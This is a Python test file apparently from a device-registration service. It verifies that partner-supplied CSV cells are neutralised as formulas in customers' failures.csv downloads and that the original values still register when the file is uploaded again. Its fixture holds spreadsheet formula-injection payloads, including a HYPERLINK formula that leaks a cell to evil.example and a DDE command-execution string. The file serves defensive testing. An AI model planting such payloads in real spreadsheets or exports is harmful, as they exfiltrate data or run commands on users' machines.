"""A partner's cells never reach a customer's spreadsheet as live formulas:
failures.csv from the API and from the portal has them inert, and the file
uploaded again registers the values the partner first sent."""

from __future__ import annotations

import csv
import io

from tenants.ingest.hardware_hash import build_hardware_hash
from tenants.ingest.spreadsheet_cells import FORMULA_STARTS
from tests.csv_files import CSV_HEADERS, encode_csv
from tests.http import upload, wait_for_order
from tests.portal.conftest import signed_in_session

HEADER = CSV_HEADERS["partner"]
BAD_HASH = "T0FBQUFB"
# (serial, manufacturer, model): what an attacker puts in the cells a customer downloads.
DEVICES = [
    ("@SUM(1+1)", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0"),
    ("-2+3", "@Contoso", "=1+1"),
]


def table_of(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_failures_csv_holds_no_formula_and_registers_the_original_values(
    api, world, people, base_url, run_worker
):
    partner, tenant = world.partner(), world.tenant()
    world.approved(partner, tenant)
    lines = [HEADER] + [[s, "", BAD_HASH, m, model] for s, m, model in DEVICES]
    response = upload(
        api,
        f"/v1/partner/customers/{tenant.id}/orders",
        partner.token,
        [("pcs.csv", encode_csv(lines, quoted=True))],
    )
    assert response.status_code == 202, response.text
    order = wait_for_order(api, partner.token, response.headers["Location"], run_worker)
    assert order["counts"]["by_state"] == {"registration_failed": len(DEVICES)}

    from_partner = api.get(f"/v1/partner/orders/{order['id']}/failures.csv", token=partner.token)
    from_customer = api.get(f"/v1/customer/orders/{order['id']}/failures.csv", token=tenant.token)
    portal = signed_in_session(base_url, people("tenant", tenant))
    from_portal = portal.get(f"{base_url}/portal/orders/{order['id']}/failures.csv", timeout=30)

    for download in (from_partner, from_customer, from_portal):
        assert download.status_code == 200
        table = table_of(download.content)
        assert table[0] == [*HEADER, "Error Code", "Error Message"]
        cells = [cell for row in table for cell in row]
        assert not [c for c in cells if c[:1] in set(FORMULA_STARTS)]
        # Every cell is quoted, so no other separator can cut one into a formula.
        first_row = download.content.decode("utf-8-sig").split("\r\n")[1]
        assert first_row.startswith('"\'@SUM(1+1)","",')
    assert from_customer.content == from_partner.content == from_portal.content

    # Download, fix (the hash), upload again: the original values register.
    table = table_of(from_customer.content)
    for row, (serial, manufacturer, model) in zip(table[1:], DEVICES, strict=True):
        row[2] = build_hardware_hash(manufacturer, model, serial)
    again = upload(
        api,
        f"/v1/partner/customers/{tenant.id}/orders",
        partner.token,
        [("pcs-fixed.csv", encode_csv(table, encoding="utf-8-sig", quoted=True))],
    )
    assert again.status_code == 202, again.text
    order = wait_for_order(api, partner.token, again.headers["Location"], run_worker)
    assert order["status"] == "completed", order
    registered = api.get(
        f"/v1/partner/orders/{order['id']}/registrations", token=partner.token
    ).json()
    assert sorted((d["serial_number"], d["manufacturer"], d["model"]) for d in registered) == (
        sorted(DEVICES)
    )
